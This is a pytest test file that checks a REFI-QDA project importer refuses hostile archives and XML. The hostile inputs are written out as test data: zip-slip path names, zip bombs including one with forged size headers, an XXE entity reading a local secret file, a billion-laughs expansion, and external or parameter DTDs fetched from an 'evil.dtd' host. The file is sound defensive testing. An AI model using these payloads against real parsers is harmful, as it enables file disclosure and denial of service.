"""Hostile .qdpx and .qdc files: each refused with one clear line, nothing left behind.

Nothing is ever extracted to disk (the archive is read in memory), so "nothing left behind"
means: no project file, no temporary file, and no file outside the test's folder.
"""

from __future__ import annotations

import io
import struct
import zipfile
from pathlib import Path

import pytest

from coding.exchange.refi_import import import_qdc, import_qdpx
from coding.project import Project
from importers.base import ImporterError
from importers.refi_qda import ZipLimits
from tests.refi.samples import SOURCE, TEXT, project_xml, write_qdpx

GOOD_FILES = {f"sources/{SOURCE}.txt": TEXT}


def _refused(tmp_path: Path, archive: Path, limits: ZipLimits | None = None) -> str:
    before = sorted(tmp_path.parent.rglob("*"))
    with pytest.raises(ImporterError) as caught:
        import_qdpx(archive, tmp_path / "new.realist", limits)
    message = str(caught.value)
    assert "\n" not in message and message.startswith(archive.name + ": ")
    assert sorted(tmp_path.parent.rglob("*")) == before, "the import left files behind"
    return message


def _zip(tmp_path: Path, entries: dict[str, bytes], name: str = "hostile.qdpx") -> Path:
    path = tmp_path / name
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zf:
        for member, data in entries.items():
            zf.writestr(zipfile.ZipInfo(member), data, zipfile.ZIP_DEFLATED)
    return path


@pytest.mark.parametrize("member", ["../x.txt", "/etc/x.txt", "C:\\Windows\\x.txt", "C:x.txt",
                                    "..\\..\\x.txt", "sources/../../x.txt",
                                    "sources\\..\\..\\x.txt"])
def test_zip_slip_names(tmp_path: Path, member: str) -> None:
    path = _zip(tmp_path, {"project.qde": project_xml().encode(), member: b"pwned"})
    assert "points outside the archive" in _refused(tmp_path, path)


def test_too_many_entries(tmp_path: Path) -> None:
    entries = {f"sources/{n}.txt": b"x" for n in range(6)}
    path = _zip(tmp_path, {"project.qde": project_xml().encode(), **entries})
    assert "7 entries is more than 5" in _refused(tmp_path, path, ZipLimits(max_entries=5))


def test_zip_bomb_one_huge_entry(tmp_path: Path) -> None:
    path = _zip(tmp_path, {"project.qde": project_xml().encode(),
                           "sources/bomb.txt": b"\0" * 2_000_000})
    assert path.stat().st_size < 10_000
    message = _refused(tmp_path, path, ZipLimits(max_file_bytes=100_000))
    assert "larger than 100000 bytes" in message


def test_zip_bomb_many_entries_over_the_total(tmp_path: Path) -> None:
    entries = {f"sources/{n}.txt": b"\0" * 90_000 for n in range(5)}
    path = _zip(tmp_path, {"project.qde": project_xml().encode(), **entries})
    message = _refused(tmp_path, path, ZipLimits(max_file_bytes=100_000,
                                                 max_total_bytes=300_000))
    assert "unpacks to more than 300000 bytes" in message


def _lie_about_sizes(data: bytes, member: str, size: int) -> bytes:
    """Rewrite the uncompressed size of `member` in its local and central headers."""
    buf = bytearray(data)
    name = member.encode()
    for signature, offset, name_at in ((b"PK\x03\x04", 22, 30), (b"PK\x01\x02", 24, 46)):
        at = buf.find(signature)
        while at != -1:
            if buf[at + name_at: at + name_at + len(name)] == name:
                struct.pack_into("<I", buf, at + offset, size)
            at = buf.find(signature, at + 1)
    return bytes(buf)


def test_zip_bomb_whose_header_lies_about_its_size(tmp_path: Path) -> None:
    honest = _zip(tmp_path, {"project.qde": project_xml().encode(),
                             "sources/bomb.txt": b"\0" * 2_000_000}, "honest.qdpx")
    path = tmp_path / "liar.qdpx"
    path.write_bytes(_lie_about_sizes(honest.read_bytes(), "sources/bomb.txt", 50))
    honest.unlink()
    with zipfile.ZipFile(path) as zf:
        assert zf.getinfo("sources/bomb.txt").file_size == 50  # the lie is what zip reports
    message = _refused(tmp_path, path, ZipLimits(max_file_bytes=100_000))
    assert "damaged archive" in message and "bomb.txt" in message


XXE = """<?xml version="1.0"?>
<!DOCTYPE Project [<!ENTITY secret SYSTEM "file://{secret}">]>
<Project xmlns="urn:QDA-XML:project:1.0" name="x">
  <Sources><TextSource guid="{source}" name="Leak">
    <PlainTextContent>before &secret; after</PlainTextContent>
  </TextSource></Sources>
</Project>"""

LAUGHS = """<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<Project xmlns="urn:QDA-XML:project:1.0" name="&lol9;"/>"""

EXTERNAL_DTD = """<?xml version="1.0"?>
<!DOCTYPE Project SYSTEM "http://203.0.113.7/evil.dtd">
<Project xmlns="urn:QDA-XML:project:1.0" name="x"/>"""

PARAMETER_ENTITY = """<?xml version="1.0"?>
<!DOCTYPE Project [<!ENTITY % remote SYSTEM "http://203.0.113.7/x.dtd"> %remote;]>
<Project xmlns="urn:QDA-XML:project:1.0" name="x"/>"""


@pytest.mark.parametrize("kind", ["xxe", "xxe-after-comment", "laughs", "external-dtd",
                                  "parameter-entity"])
def test_unsafe_xml_is_refused(tmp_path: Path, kind: str) -> None:
    secret = tmp_path / "secret.txt"
    secret.write_text("TOP-SECRET-TOKEN")
    xxe = XXE.format(secret=secret, source=SOURCE)
    qde = {"xxe": xxe, "xxe-after-comment": xxe.replace("<!DOCTYPE", "<!-- <a> -->\n<!DOCTYPE"),
           "laughs": LAUGHS,
           "external-dtd": EXTERNAL_DTD, "parameter-entity": PARAMETER_ENTITY}[kind]
    path = write_qdpx(tmp_path / "evil.qdpx", qde)
    message = _refused(tmp_path, path)
    assert "DOCTYPE" in message and "TOP-SECRET" not in message


def test_unsafe_xml_in_a_codebook(empty_project: Project, tmp_path: Path) -> None:
    secret = tmp_path / "secret.txt"
    secret.write_text("TOP-SECRET-TOKEN")
    path = tmp_path / "evil.qdc"
    path.write_text(f'<!DOCTYPE CodeBook [<!ENTITY s SYSTEM "file://{secret}">]>'
                    '<CodeBook xmlns="urn:QDA-XML:codebook:1.0"><Codes>'
                    '<Code guid="6b9c2f1e-4a0d-4a83-9d43-1c2b3a4d5e6f" name="&s;"/>'
                    "</Codes></CodeBook>")
    with pytest.raises(ImporterError, match="DOCTYPE"):
        import_qdc(empty_project, path)
    from coding.nodes import list_nodes

    assert list_nodes(empty_project) == []


def _valid_qdpx_bytes() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("project.qde", project_xml())
        zf.writestr(f"sources/{SOURCE}.txt", TEXT * 200)
    return out.getvalue()


@pytest.mark.parametrize(("content", "reason"), [
    (b"", "not a REFI-QDA project"),
    (b"Just some text, not a zip at all.\n", "not a REFI-QDA project"),
    (b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n", "not a REFI-QDA project"),
    ("truncated-end", "not a REFI-QDA project"),
    ("truncated-data", "damaged archive"),
    ("no-qde", "no project .qde file"),
    ("qde-too-deep", "no project .qde file"),
    ("broken-xml", "not well-formed XML"),
    ("not-a-project", "not a REFI-QDA <Project>"),
])
def test_broken_containers(tmp_path: Path, content: bytes | str, reason: str) -> None:
    path = tmp_path / "broken.qdpx"
    good = _valid_qdpx_bytes()
    if content == "truncated-end":
        data = good[: len(good) // 2]
    elif content == "truncated-data":  # the directory intact, the compressed stream cut
        data = _cut_stream(good)
    elif content in ("no-qde", "qde-too-deep", "broken-xml", "not-a-project"):
        members = {"no-qde": {"sources/a.txt": b"x"},
                   "qde-too-deep": {"a/b/project.qde": project_xml().encode()},
                   "broken-xml": {"project.qde": b"<Project><Users>"},
                   "not-a-project": {"project.qde": b"<html><body/></html>"}}[content]
        data = _zip(tmp_path, members, "tmp.qdpx").read_bytes()
        (tmp_path / "tmp.qdpx").unlink()
    else:
        assert isinstance(content, bytes)
        data = content
    path.write_bytes(data)
    assert reason in _refused(tmp_path, path)


def _cut_stream(good: bytes) -> bytes:
    """Zero the middle of the text entry's deflate stream, keeping every header."""
    at = good.find(f"sources/{SOURCE}.txt".encode()) + len(f"sources/{SOURCE}.txt")
    return good[:at + 10] + b"\xff" * 40 + good[at + 50:]


def test_a_missing_file(tmp_path: Path) -> None:
    message = _refused(tmp_path, tmp_path / "nowhere.qdpx")
    assert "file not found" in message  # as for every file read (importers/source.py)


def test_a_codebook_over_the_size_cap(tmp_path: Path) -> None:
    from importers.refi_qda import read_qdc

    path = tmp_path / "big.qdc"
    path.write_text('<CodeBook xmlns="urn:QDA-XML:codebook:1.0"><Codes/></CodeBook>'
                    + " " * 5000)
    with pytest.raises(ImporterError, match="more than the 1,000 bytes a file to read may be"):
        read_qdc(path, ZipLimits(max_file_bytes=1000))
    assert read_qdc(path) == ([], [])
